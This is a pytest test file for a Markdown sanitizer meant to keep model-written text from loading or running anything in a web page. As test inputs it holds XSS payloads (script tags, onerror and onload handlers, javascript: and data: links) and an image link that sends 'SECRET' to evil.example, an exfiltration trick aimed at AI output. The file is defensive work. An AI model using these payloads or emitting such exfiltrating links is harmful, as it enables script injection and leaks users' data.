"""The Markdown sanitizer: what a model writes can load nothing and run nothing in the page."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest

from inhouse.api.web.markdown import LINK_REL, code_css, render_markdown

STATIC = Path(__file__).resolve().parents[2] / "src" / "inhouse" / "api" / "web" / "static"
LOADING_TAGS = set(
    [
        "img",
        "script",
        "iframe",
        "frame",
        "object",
        "embed",
        "video",
        "audio",
        "source",
        "link",
        "style",
        "form",
        "input",
        "svg",
        "math",
        "base",
        "meta",
    ]
)


class Elements(HTMLParser):
    """Every element of a fragment with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(html)
    return parser.found


def assert_inert(html: str) -> None:
    """No element that loads or runs anything, no style or event attribute, and every link
    goes to http(s), mailto or this origin."""
    for tag, attrs in elements(html):
        assert tag not in LOADING_TAGS, html
        for name, value in attrs.items():
            assert name != "style" and not name.startswith("on") and name != "src", html
            if name == "href":
                assert value is not None
                assert value.startswith(("http://", "https://", "mailto:", "/", "#")), html
                assert not value.startswith("//"), html


def test_an_image_is_never_loaded_only_its_alt_text_is_shown() -> None:
    html = render_markdown("Look: ![secret data](http://evil.example/?q=SECRET) here")
    assert_inert(html)
    assert "evil.example" not in html and "SECRET" not in html
    assert html == "<p>Look: secret data here</p>\n"


def test_a_reference_image_and_an_image_inside_a_link_load_nothing() -> None:
    text = "[![logo](http://evil.example/a.png)](http://ok.example/)\n\n![r][1]\n\n[1]: http://evil.example/b.png"
    html = render_markdown(text)
    assert_inert(html)
    assert "a.png" not in html and "b.png" not in html
    assert '<a href="http://ok.example/"' in html


def test_raw_html_is_shown_as_text_never_as_elements() -> None:
    for raw in (
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        '<iframe src="http://evil.example"></iframe>',
        '<a href="javascript:alert(1)">x</a>',
        '<div style="background:url(http://evil.example/x)">x</div>',
        "<!-- comment --><svg onload=alert(1)>",
    ):
        html = render_markdown(raw)
        assert_inert(html)
        assert elements(html) == [("p", {})], html
        assert "&lt;" in html


@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<javascript:alert(1)>",
        "[x](//evil.example/path)",
    ],
)
def test_dangerous_links_lose_their_target(link: str) -> None:
    html = render_markdown(link)
    assert_inert(html)
    assert all("href" not in attrs for _, attrs in elements(html)), html


def test_safe_links_keep_their_target_and_get_rel() -> None:
    html = render_markdown(
        "[site](https://example.com/a?b=1) [mail](mailto:a@example.com) [doc](/v1/x)"
    )
    anchors = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert [a["href"] for a in anchors] == [
        "https://example.com/a?b=1",
        "mailto:a@example.com",
        "/v1/x",
    ]
    assert all(a["rel"] == LINK_REL for a in anchors)


def test_fenced_code_is_highlighted_with_classes_only() -> None:
    html = render_markdown("```python\ndef add(a, b):\n    return a + b  # sum\n```")
    assert html.startswith('<pre class="highlight"><code>')
    assert '<span class="k">def</span>' in html and '<span class="nf">add</span>' in html
    assert '<span class="c1"># sum</span>' in html
    assert "style=" not in html
    assert_inert(html)


def test_code_in_an_unknown_language_or_none_is_escaped_plain_text() -> None:
    for fence in ("```nosuchlanguage\n<b>x</b>\n```", "```\n<b>x</b>\n```", "    <b>x</b>"):
        html = render_markdown(fence)
        assert html == "<pre><code>&lt;b&gt;x&lt;/b&gt;\n</code></pre>\n", fence


def test_code_cannot_break_out_of_its_block() -> None:
    html = render_markdown("```html\n</code></pre><img src=x onerror=alert(1)>\n```")
    assert_inert(html)
    assert [tag for tag, _ in elements(html)].count("pre") == 1


def test_ordinary_markdown_renders() -> None:
    html = render_markdown(
        "# Title\n\n**bold** *em* ~~gone~~ `code`\n\n- a\n- b\n\n| h |\n|---|\n| c |"
    )
    for fragment in ("<h1>Title</h1>", "<strong>bold</strong>", "<em>em</em>", "<s>gone</s>",
                     "<code>code</code>", "<li>a</li>", "<th>h</th>", "<td>c</td>"):  # fmt: skip
        assert fragment in html


def test_the_committed_stylesheet_matches_the_highlighter() -> None:
    committed = (STATIC / "code.css").read_text()
    assert committed.endswith(code_css())
    assert ".highlight .k " in committed
